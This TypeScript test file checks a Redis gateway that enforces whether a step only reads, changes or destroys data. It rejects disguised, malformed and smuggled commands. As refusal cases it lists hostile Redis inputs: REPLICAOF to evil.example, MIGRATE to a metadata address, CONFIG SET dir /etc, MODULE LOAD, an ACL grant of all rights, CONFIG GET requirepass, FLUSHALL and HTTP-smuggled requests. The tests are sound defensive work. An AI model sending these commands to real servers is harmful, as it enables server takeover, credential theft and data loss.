/**
 * What a step might send to a Redis to get more than it declared: broken or disguised commands, another identity, a way around
 * the order of answers. The commands of a real Redis 7 decide, whose table is asked once.
 */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { mkdtempSync, rmSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import type { Effect } from '../../common/catalog/effect.ts';
import type { Door } from '../../server/runner/gateway/door.ts';
import { openRedisGateway } from '../../server/runner/gateway/redis/gateway.ts';
import { MalformedRequest, RequestReader, respOf, type Verdict } from '../../server/runner/gateway/redis/requests.ts';
import { AnswerScanner, MalformedAnswer } from '../../server/runner/gateway/redis/answers.ts';
import { commandTable } from '../../server/runner/gateway/redis/commands.ts';
import { openTrialRedis, type TrialRedis } from '../../server/runner/gateway/redis/trial-redis.ts';
import { redisUpstream } from '../../server/runner/gateway/redis/upstream.ts';
import { verdictOn } from '../../server/runner/gateway/redis/verdict.ts';
import { openSecrets } from '../../server/runner/secrets.ts';

const folder = mkdtempSync('/tmp/hr-hostile-redis-');
const doors: Door[] = [];
let redis: TrialRedis;

before(async () => {
  redis = await openTrialRedis();
  for (const effect of ['read', 'change', 'destroy'] as const) {
    doors.push(await openRedisGateway({
      socket: join(folder, effect), upstream: redisUpstream(redis.plain, (ref) => openSecrets().read(ref)), effect,
      tell: () => undefined, durable: () => Promise.resolve(), onFailure: () => undefined,
    }));
  }
  await said('destroy', `${words('SET kept value')}${words('XADD stream * a b')}${words('XGROUP CREATE stream group 0')}${words('LPUSH list 1 2')}${words('PING')}`);
});
after(async () => {
  for (const door of doors) door.close();
  await redis[Symbol.asyncDispose]();
  rmSync(folder, { recursive: true });
});

const words = (line: string): string => respOf(line.split(' ')).toString('latin1');

/** Sends it, and a PING after it where that is left to be answered; gives all that came back until then or the end. */
async function said(effect: Effect, bytes: string): Promise<string> {
  const socket = connect(join(folder, effect));
  let text = '';
  const done = new Promise<void>((resolve) => {
    socket.on('data', (chunk: Buffer) => {
      text += chunk.toString('latin1');
      if (text.endsWith('+PONG\r\n')) resolve();
    });
    socket.on('error', () => undefined).once('close', () => { resolve(); });
  });
  await once(socket, 'connect');
  socket.write(bytes, 'latin1');
  await done;
  socket.destroy();
  return text;
}

/** Each is sent before a PING and has to be answered by one error, after which the connection goes on as if it had not been. */
const refused: readonly [effect: Effect, line: string, says: RegExp][] = [
  ['read', 'SET kept other', /SET changes something, and this step says that it only reads/],
  ['read', 'set kept other', /SET changes/], ['read', 'SeT kept other', /SET changes/],
  ['read', 'GETDEL kept', /GETDEL counts as destroying/], ['read', 'GETEX kept EX 1', /changes/], ['read', 'EXPIRE kept 1', /changes/],
  ['read', 'COPY kept stolen', /changes/], ['read', 'SORT list STORE kept', /destroying/], ['read', 'GEORADIUS g 1 1 1 m STORE kept', /changes/],
  ['read', 'XGROUP DESTROY stream group', /XGROUP DESTROY counts as destroying/], ['read', 'XGROUP CREATE stream other $', /changes/],
  ['read', 'XREADGROUP GROUP group me STREAMS stream >', /changes/], ['read', 'BITFIELD kept SET u8 0 1', /changes/], ['read', 'PFADD x y', /changes/],
  ['read', 'PUBLISH channel text', /changes/], ['read', 'EVAL return(1) 0', /destroying/], ['read', 'EVAL_RO return(1) 0', /destroying/], ['read', 'FCALL f 0', /destroying/],
  ['change', 'DEL kept', /destroying/], ['change', 'UNLINK kept', /destroying/], ['change', 'XTRIM stream MAXLEN 0', /destroying/], ['change', 'XDEL stream 0-1', /destroying/],
  ['change', 'XGROUP DESTROY stream group', /destroying/], ['change', 'xgroup destroy stream group', /destroying/], ['change', 'LPOP list', /destroying/],
  ['change', 'RENAME kept other', /destroying/], ['change', 'FLUSHALL', /destroying/], ['change', 'FLUSHDB ASYNC', /destroying/], ['change', 'SWAPDB 0 1', /destroying/],
  ['change', 'RESTORE kept 0 x REPLACE', /destroying/], ['change', 'MIGRATE 169.254.169.254 80 kept 0 1', /destroying/], ['change', 'SCRIPT FLUSH', /destroying/],
  ['change', 'FUNCTION FLUSH', /destroying/], ['change', 'CONFIG SET dir /etc', /destroying/], ['change', 'CONFIG REWRITE', /destroying/], ['change', 'MODULE LOAD /tmp/x.so', /destroying/],
  ['change', 'DEBUG SLEEP 60', /destroying/], ['change', 'REPLICAOF evil.example 6379', /destroying/], ['change', 'SLAVEOF evil.example 6379', /destroying/], ['change', 'FAILOVER', /destroying/],
  ['change', 'SHUTDOWN NOSAVE', /destroying/], ['change', 'BGSAVE', /destroying/], ['change', 'CLIENT KILL TYPE normal', /destroying/], ['change', 'CLIENT PAUSE 60000', /destroying/],
  ['change', 'SLOWLOG RESET', /destroying/], ['change', 'LATENCY RESET', /destroying/], ['change', 'CLUSTER RESET', /destroying/],
  ['destroy', 'AUTH default x', /signed in already/], ['destroy', 'HELLO 3', /^-NOPROTO/], ['destroy', 'HELLO 2 AUTH default x', /signed in already/], ['destroy', 'RESET', /sign the gateway out/],
  ['destroy', 'CLIENT REPLY OFF', /needs every answer/], ['destroy', 'CLIENT REPLY SKIP', /needs every answer/], ['destroy', 'CLIENT TRACKING ON', /cannot pass/], ['destroy', 'MONITOR', /cannot pass/],
  ['destroy', 'SYNC', /cannot pass/], ['destroy', 'PSYNC ? -1', /cannot pass/], ['destroy', 'REPLCONF listening-port 1', /cannot pass/], ['destroy', 'SCRIPT DEBUG YES', /cannot pass/],
  ['destroy', 'ACL SETUSER default on nopass ~* +@all', /users of this Redis/], ['destroy', 'ACL LIST', /users of this Redis/], ['destroy', 'ACL GETUSER handrail', /users of this Redis/],
  ['destroy', 'ACL LOAD', /users of this Redis/], ['destroy', 'CONFIG GET *', /one by one/], ['destroy', 'CONFIG GET requirepass', /one by one/], ['destroy', 'CONFIG GET maxmemory REQUIREPASS', /one by one/],
  ['destroy', 'CONFIG GET tls-key-file-pass', /one by one/], ['destroy', 'CONFIG SET maxmemory 0 masterauth x', /not for steps to set/],
  ['destroy', 'NOSUCH command', /does not know the command NOSUCH/], ['destroy', 'XGROUP|DESTROY stream group', /does not know/], ['destroy', 'CONFIG NOSUCH', /does not know the command CONFIG NOSUCH/],
  ['destroy', '\x1b]0;title\x07', /does not know the command \?/],
];
for (const [effect, line, says] of refused) {
  test(`${effect}: ${JSON.stringify(line)} is refused, and what follows goes on`, async () => {
    const text = await said(effect, words(line) + words('EXISTS kept') + words('PING'));
    const [first = '', ...rest] = text.split('\r\n');
    assert.match(first, says);
    assert.match(first, /^-(NOPERM|NOPROTO|ERR) [^\x00-\x1f]*$/);
    assert.deepEqual(rest, [':1', '+PONG', '']);
  });
}

/** Bytes that are no command: the connection ends with one error, and nothing of what stands beside them is done. */
const malformed: readonly [what: string, bytes: string][] = [
  ['a count with a sign', '*+1\r\n$7\r\nFLUSHDB\r\n'], ['a count with a zero in front', '*01\r\n$7\r\nFLUSHDB\r\n'], ['a negative count', '*-1\r\n'], ['no command', '*0\r\n'],
  ['a count beyond all', '*99999999999999999999\r\n'], ['a hundred million arguments', '*100000000\r\n'], ['a length with a sign', '*1\r\n$+4\r\nPING\r\n'], ['a length with a space', '*1\r\n$ 4\r\nPING\r\n'],
  ['a negative length', '*1\r\n$-1\r\n'], ['a length beyond 512 MB', '*1\r\n$536870913\r\n'], ['a length in hexadecimal', '*1\r\n$0x4\r\nPING\r\n'], ['a line feed alone', '*1\n$4\nPING\n'],
  ['an argument longer than its length', '*1\r\n$4\r\nPINGXX\r\n'], ['a command within an argument’s end', `*2\r\n$3\r\nGET\r\n$4\r\nkept${words('DEL kept')}`], ['an integer for an argument', '*1\r\n:4\r\n'],
  ['RESP3', '%1\r\n'.replace('%', '*') + '%0\r\n'], ['HTTP', 'POST / HTTP/1.1\r\nHost: x\r\n\r\nFLUSHALL\r\n'], ['HTTP that begins with a header', 'Host: x\r\n'],
  ['an inline line with quotes', 'SET kept "x\r\n'], ['an inline line with a NUL', 'GET kept\0\r\n'], ['an inline line without end', 'x'.repeat(70_000)],
];
for (const [what, bytes] of malformed) {
  test(`${what} ends the connection, and changes nothing`, async () => {
    const text = await said('destroy', bytes);
    assert.match(text, /^-ERR [^\r\n]*\r\n$/, text);
    assert.match(await said('read', words('EXISTS kept') + words('PING')), /^:1\r\n/);
  });
}

/** By its bytes alone, wherever they are cut: what is forwarded, and what is asked about. */
function read(bytes: Buffer, cuts: readonly number[], decide: (args: readonly Buffer[]) => Verdict): Buffer {
  const sent: Buffer[] = [];
  const reader = new RequestReader({ decide, send: (piece) => { sent.push(Buffer.from(piece)); } });
  for (const [at, from] of [0, ...cuts].entries()) {
    // A buffer of its own, overwritten afterwards: nothing may be kept of it.
    const piece = Buffer.from(bytes.subarray(from, cuts[at] ?? bytes.length));
    reader.push(piece);
    piece.fill(0);
  }
  return Buffer.concat(sent);
}

test('wherever a stream is cut, the same commands pass, byte for byte', () => {
  const good = [respOf(['GET', 'a']), respOf(['XGROUP', 'CREATE', 's', 'g', '$']), respOf(['SET', 'k', 'v'.repeat(50)]), respOf(['ECHO', ''])];
  const bad = [respOf(['DEL', 'a', 'b']), respOf(['XGROUP', 'DESTROY', 's', 'g']), respOf(['FLUSHALL'])];
  const stream = Buffer.concat([good[0], bad[0], good[1], bad[1], good[2], bad[2], Buffer.from('GET inline\r\n'), good[3]].filter((part) => part !== undefined));
  const wanted = Buffer.concat([good[0], good[1], good[2], respOf(['GET', 'inline']), good[3]].filter((part) => part !== undefined));
  const decide = (args: readonly Buffer[]): Verdict => {
    const [name, second] = args.map(String);
    if (name === 'XGROUP' && second === undefined) return 'more';
    return ['DEL', 'FLUSHALL'].includes(name ?? '') || second === 'DESTROY' ? 'drop' : 'forward';
  };
  for (let cut = 1; cut < stream.length; cut += 1) assert.deepEqual(read(stream, [cut], decide), wanted, `cut at ${cut}`);
  assert.deepEqual(read(stream, Array.from({ length: stream.length - 1 }, (_, at) => at + 1), decide), wanted, 'byte by byte');
});

test('nothing of a command goes anywhere before its name is known', () => {
  const stream = respOf(['FLUSHALL', 'ASYNC']);
  for (let cut = 1; cut < stream.indexOf('ASYNC') - 6; cut += 1) {
    const sent: Buffer[] = [];
    const reader = new RequestReader({ decide: () => 'forward', send: (piece) => { sent.push(piece); } });
    reader.push(Buffer.from(stream.subarray(0, cut)));
    assert.equal(Buffer.concat(sent).length, 0, `after ${cut} bytes`);
  }
});

test('the name of a command may be long, but is not kept', () => {
  const reader = new RequestReader({ decide: ([name]) => (assert.ok((name?.length ?? 0) < 80_000), 'drop'), send: () => assert.fail('it was sent') });
  reader.push(Buffer.from('*2\r\n$400000000\r\n'));
  for (let at = 0; at < 200; at += 1) reader.push(Buffer.alloc(64 * 1024, 'x'));
  assert.throws(() => new RequestReader({ decide: () => 'drop', send: () => undefined }).push(Buffer.from('*1\r\n$4\r\nPINGPING')), MalformedRequest);
});

test('wherever answers are cut, their ends are found', () => {
  const parts = ['+OK\r\n', '-ERR no\r\n', ':-12\r\n', '$-1\r\n', '$0\r\n\r\n', '$4\r\n\r\n+O\r\n', '*-1\r\n', '*0\r\n', '*2\r\n*1\r\n$1\r\na\r\n*0\r\n', '*3\r\n:1\r\n$-1\r\n+x\r\n'];
  const stream = Buffer.from(parts.join(''));
  const ends = parts.map((_, at) => parts.slice(0, at + 1).join('').length);
  const found = (pieces: readonly Buffer[]): number[] => {
    const scanner = new AnswerScanner();
    const list: number[] = [];
    let before = 0;
    for (const piece of pieces) {
      for (let place = 0; place < piece.length;) {
        const end = scanner.next(piece, place);
        if (end === -1) break;
        list.push(before + end);
        place = end;
      }
      before += piece.length;
    }
    return list;
  };
  for (let cut = 1; cut < stream.length; cut += 1) assert.deepEqual(found([stream.subarray(0, cut), stream.subarray(cut)]), ends, `cut at ${cut}`);
  assert.deepEqual(found(Array.from(stream, (byte) => Buffer.from([byte]))), ends, 'byte by byte');
});

const answers: readonly [what: string, bytes: string][] = [
  ['RESP3 maps', '%1\r\n+a\r\n+b\r\n'], ['pushes', '>2\r\n+a\r\n+b\r\n'], ['a length with a sign', '$+1\r\na\r\n'], ['a length of two minuses', '$-2\r\n'],
  ['a number that never ends', `*${'1'.repeat(100)}`], ['nesting without end', '*1\r\n'.repeat(10_000)], ['anything else', 'HTTP/1.1 200 OK\r\n'],
];
for (const [what, bytes] of answers) {
  test(`a Redis that answers with ${what} is not understood`, () => {
    assert.throws(() => new AnswerScanner().next(Buffer.from(bytes), 0), MalformedAnswer);
  });
}

/** A server that says less of its commands, or other things, gives no more than Redis 7 would. */
const older: readonly [what: string, entry: [string, number, string[], number, number, number, string[]], asked: string, effect: Effect | null][] = [
  ['Redis 6 says of DEL only that it writes', ['del', -2, ['write'], 1, -1, 1, ['@keyspace', '@write', '@slow']], 'del k', 'destroy'],
  ['Redis 6 does not list what XGROUP has', ['xgroup', -2, ['write', 'denyoom'], 2, 2, 1, ['@write', '@stream', '@slow']], 'xgroup destroy s g', 'destroy'],
  ['XGROUP CREATE is a change there too', ['xgroup', -2, ['write', 'denyoom'], 2, 2, 1, ['@write', '@stream', '@slow']], 'xgroup create s g 0', 'change'],
  ['what XGROUP does not have is unknown', ['xgroup', -2, ['write', 'denyoom'], 2, 2, 1, ['@write']], 'xgroup explode s g', null],
  ['a dangerous command renamed to a harmless name', ['fetch', -1, ['write'], 0, 0, 0, ['@keyspace', '@write', '@dangerous']], 'fetch', 'destroy'],
  ['a writing command renamed to a reading one', ['get', -1, ['write'], 1, 1, 1, ['@write']], 'get k', 'change'],
  ['a module’s command that says it only reads', ['json.get', -2, ['readonly', 'module'], 1, 1, 1, []], 'json.get k', 'read'],
  ['a module’s command that says nothing', ['mystery.do', -1, ['module'], 0, 0, 0, []], 'mystery.do', 'destroy'],
];
for (const [what, entry, asked, effect] of older) {
  test(what, () => {
    const commands = commandTable([entry]);
    const args = asked.split(' ').map((word) => Buffer.from(word));
    const verdict = verdictOn({ args, count: args.length, isLast: true }, { commands, effect: 'destroy', database: null, inTransaction: false, isSubscribed: false });
    assert.equal(verdict.verdict === 'forward' ? verdict.effect : null, effect);
  });
}
